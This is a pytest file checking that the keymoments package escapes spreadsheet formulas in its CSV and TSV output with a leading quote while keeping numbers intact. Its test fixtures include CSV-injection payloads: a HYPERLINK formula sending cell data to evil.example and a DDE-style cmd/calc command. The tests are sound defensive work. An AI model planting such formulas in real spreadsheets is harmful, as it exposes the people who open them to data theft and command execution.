"""Every CSV keymoments writes is safe to open in a spreadsheet: text cells that a spreadsheet would run as a
formula (=HYPERLINK(…), @SUM(…), +1+1, a leading tab) get a leading ', as OWASP advises; numbers stay numbers."""

from __future__ import annotations

import csv

import pandas as pd

from keymoments.present import csv_safe_frame

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "\t=1", "\r=1"]  # fmt: skip


def _cells(path) -> list[str]:  # noqa: ANN001
    with open(path, newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def _unsafe(cells: list[str]) -> list[str]:
    return [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]


def _number(c: str) -> bool:
    try:
        float(c)
    except ValueError:
        return False
    return True


def test_csv_safe_frame_prefixes_formulas_and_keeps_numbers():
    df = pd.DataFrame({"text": [*FORMULAS, "-3", "fine", None], "n": [-1.5, 2, -3, 4, 5, 6, -7, 8, 9]})
    out = csv_safe_frame(df)
    assert out["text"].tolist()[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert out["text"].tolist()[len(FORMULAS):-1] == ["-3", "fine"] and out["text"].isna().iloc[-1]
    assert out["n"].tolist() == df["n"].tolist() and out["n"].dtype == df["n"].dtype
    assert df["text"].iloc[0] == FORMULAS[0]  # the frame given is not changed
    assert csv_safe_frame(pd.DataFrame({"=cmd": [1]})).columns.tolist() == ["'=cmd"]


def test_the_rejects_file_holds_no_formula(run_cli, tmp_path):
    rows = [{"customer_id": f, "ts": "not a time", "touchpoint": f, "rating": -1} for f in FORMULAS]
    rows.append({"customer_id": "ok", "ts": "2025-01-01", "touchpoint": "t", "rating": 3})
    pd.DataFrame(rows).to_csv(tmp_path / "e.csv", index=False)
    code, out, err = run_cli("ingest", "e.csv", "--rating-scale", "csat5", "--max-rejects", "100%")
    assert code == 0, err
    cells = _cells(tmp_path / "e.rejects.csv")
    assert len(cells) > len(FORMULAS) and not _unsafe(cells), _unsafe(cells)
    assert "'+1+1" in cells and "'-2+3" in cells and any(c.startswith("'=HYPERLINK(") for c in cells)
    assert any(c.startswith("'@SUM(") for c in cells) and "-1" in cells  # the rating stays a number


def test_score_text_out_holds_no_formula(run_cli, tmp_path):
    pd.DataFrame({"msg": FORMULAS, "score": [-1, -2, 3, 4, 5, 6]}).to_csv(tmp_path / "t.csv", index=False)
    for out in ("scored.csv", "scored.tsv"):
        code, _, err = run_cli("score-text", "t.csv", "--text-col", "msg", "--out", out)
        assert code == 0, err
        sep = "\t" if out.endswith(".tsv") else ","
        back = pd.read_csv(tmp_path / out, sep=sep, keep_default_na=False)
        assert all(str(v).startswith("'") for v in back["msg"]), back["msg"].tolist()
        assert back["score"].tolist() == [-1, -2, 3, 4, 5, 6]  # negative numbers stay numbers
        assert (back["valence"].astype(float) <= 1).all()
